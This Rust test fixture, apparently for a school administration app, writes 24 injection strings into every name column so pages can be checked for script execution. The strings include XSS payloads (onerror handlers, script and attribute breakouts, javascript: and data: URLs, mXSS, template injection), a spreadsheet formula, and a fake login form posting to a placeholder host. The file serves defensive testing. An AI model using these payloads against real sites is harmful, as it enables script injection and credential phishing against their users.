//! Words that try to be something else: markup, script, an address that runs, a template, a cell that computes. They are planted
//! wherever people write and looked at in every view.

use server::store::Store;

use crate::rows;

/// What each of them does where it gets its way: the page says so itself.
pub const EXECUTED: &str = "return document.documentElement.dataset.executed ?? ''";

/// One for each way out of the place where words are put.
pub const WORDS: [&str; 24] = [
    "<img src=x onerror=document.documentElement.dataset.executed='image'>",
    "<svg onload=document.documentElement.dataset.executed='svg'>",
    "<script>document.documentElement.dataset.executed='script'</script>",
    "</script><script>document.documentElement.dataset.executed='after-script'</script>",
    "\"><img src=x onerror=document.documentElement.dataset.executed='quote'>",
    "' autofocus onfocus=document.documentElement.dataset.executed='focus' x='",
    "\" onmouseover=document.documentElement.dataset.executed='over' x=\"",
    "</title><script>document.documentElement.dataset.executed='title'</script>",
    "</textarea><script>document.documentElement.dataset.executed='textarea'</script>",
    "</option></select><img src=x onerror=document.documentElement.dataset.executed='option'>",
    "--><script>document.documentElement.dataset.executed='comment'</script><!--",
    "]]><script>document.documentElement.dataset.executed='cdata'</script>",
    "javascript:document.documentElement.dataset.executed='address'",
    "data:text/html,<script>document.documentElement.dataset.executed='data'</script>",
    "<a href=\"javascript:document.documentElement.dataset.executed='link'\">trykk</a>",
    "<iframe srcdoc=\"<script>top.document.documentElement.dataset.executed='frame'</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.documentElement.dataset.executed='math'>",
    "<details open ontoggle=document.documentElement.dataset.executed='details'>",
    "<style>@import 'https://example.invalid/x.css';</style>",
    "<meta http-equiv=refresh content=\"0;url=https://example.invalid/\">",
    "<form action=https://example.invalid/><input name=password><button>Logg inn</button></form>",
    "{{constructor.constructor('document.documentElement.dataset.executed=1')()}}${document.documentElement.dataset.executed=2}",
    "=HYPERLINK(\"https://example.invalid/\";\"trykk\")",
    "&lt;script&gt;\u{202e}&#60;img src=x onerror=document.documentElement.dataset.executed='entity'&#62;",
];

/// Where the school's own words lie: names of all that has one.
const NAMES: [(&str, &str); 8] = [
    ("school", "name"),
    ("class", "name"),
    ("pupil", "given_name"),
    ("pupil", "family_name"),
    ("zone", "name"),
    ("recess", "name"),
    ("staff", "name"),
    ("device", "name"),
];

/// Renames everybody and everything, in the database itself: what any way in would have refused is there too.
pub async fn rename_all(store: &Store) {
    for (table, column) in NAMES {
        rows::rewrite(store, table, column, &WORDS).await;
    }
}
